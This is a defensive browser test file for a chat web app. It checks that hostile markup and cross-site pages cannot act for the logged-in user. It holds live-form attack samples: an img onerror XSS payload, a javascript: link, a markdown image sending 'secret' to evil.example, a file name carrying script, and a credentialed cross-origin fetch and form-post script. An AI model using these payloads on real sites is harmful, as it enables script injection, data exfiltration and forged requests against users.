"""What people, models, files and errors say stays words on the page, and pages of others can do nothing in its name."""

import pytest
from aiohttp import web

from tests.hostile_markup import ATTACKS
from tests.integration.page.browsing import asked, expect
from tests.page_events import last
from tests.page_server import page_server
from tests.unit.eval.threaded_server import ThreadedServer

ATTACK = '<img src=x onerror="window.__xss=1"> [x](javascript:window.__xss=1) ![p](https://evil.example/?q=secret)'
KEY = "a key of the owner"


def test_hostile_words_do_nothing(page, tmp_path):
    asked(page, ATTACK)
    expect(page.locator("a.elsewhere")).to_have_text("p")
    hostile = tmp_path / '<img src=x onerror="window.__xss=1">.txt'
    hostile.write_text(ATTACK)
    page.click("#open-documents")
    page.set_input_files("#documents input[type=file]", hostile)
    expect(page.locator(".document")).not_to_have_count(0)
    page.locator("#documents").get_by_label("Close").click()
    asked(page, "search for secret")
    page.reload()
    expect(page.locator(".answered")).to_have_count(2)
    assert page.evaluate("window.__xss") is None


def test_every_attack_in_questions_answers_titles_tools_and_errors(open_page, served):
    http = served.http
    conversation = http.post("/api/conversations", json={}).json()["id"]
    parent = None
    for attack in ATTACKS:
        for question in (attack, f"calculate {attack}", f"draw {attack}")[: 3 if "onerror" in attack else 1]:
            turn = {"content": question, "parent_id": parent}
            begun = http.post(f"/api/conversations/{conversation}/turns", json=turn)
            parent = begun.json()["assistant"]["id"]
            assert last(http, parent)[0] == "done"
    for attack in ATTACKS:
        other = http.post("/api/conversations", json={}).json()["id"]
        assert http.patch(f"/api/conversations/{other}", json={"title": attack[:200]}).status_code == 200
    page = open_page(f"/#/{conversation}")
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    expect(page.locator(".answered").last).to_be_visible()
    assert page.locator(".answered").count() > len(ATTACKS)
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(served.url)
    assert dialogs == []
    assert page.locator("#transcript :is(script, iframe, svg[onload], form[action], base, meta, object)").count() == 0


class Evil(ThreadedServer):
    """A page of somebody else, which browsers hold for the same site, since only its port differs."""

    def routes(self):
        return [("GET", "/", self.page)]

    async def page(self, request):
        return web.Response(text="<title>Evil</title>", content_type="text/html")


ATTEMPTS = """async (target) => {
  const body = '{"content": "evil"}', said = [];
  const attempt = async (path, options) => {
    try { said.push((await fetch(target + path, {credentials: "include", ...options})).type); }
    catch { said.push("refused"); }
  };
  for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"]) {
    const headers = {"Content-Type": type};
    await attempt("/api/conversations", {method: "POST", body: "{}", headers});
    await attempt("/api/conversations", {method: "POST", body: "{}", headers, mode: "no-cors"});
  }
  await attempt("/api/conversations", {method: "POST", body: "{}", headers: {"X-Homegrown": "1"}});
  await attempt("/logout", {method: "POST", mode: "no-cors"});
  await attempt("/api/me", {});
  return said;
}"""


def test_pages_of_others_cannot_act_or_read_for_whoever_is_logged_in(browser, tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOMEGROWN_HOME", str(tmp_path_factory.mktemp("locked")))
        with page_server(api_key=KEY) as locked, Evil() as evil:
            context = browser.new_context()
            page = context.new_page()
            page.goto(f"{locked.url}/login")
            page.get_by_label("Key").fill(KEY)
            page.keyboard.press("Enter")
            page.wait_for_selector("#menus button")
            other = context.new_page()
            other.goto(evil.base_url.removesuffix("/v1") + "/")
            said = other.evaluate(ATTEMPTS, locked.url)
            assert set(said) <= {"refused", "opaque"}
            assert said[-1] == "refused"
            for path, method in (("/api/conversations", "POST"), ("/logout", "POST"), ("/login", "POST")):
                form = f"<form action='{locked.url}{path}' method={method} enctype=text/plain><input name=a></form>"
                other.set_content(form)
                with other.expect_navigation():
                    other.evaluate("document.forms[0].submit()")
                assert "conversations" not in other.content()
                other.goto(evil.base_url.removesuffix("/v1") + "/")
            other.set_content(f"<iframe src='{locked.url}/'></iframe>")
            other.wait_for_load_state("networkidle")
            assert all(frame.locator("#box").count() == 0 for frame in other.frames[1:])
            owner = {"Authorization": f"Bearer {KEY}"}
            kept = locked.http.get("/api/conversations", headers=owner).json()["conversations"]
            assert kept == []
            page.reload()
            page.wait_for_selector("#menus button")
            context.close()
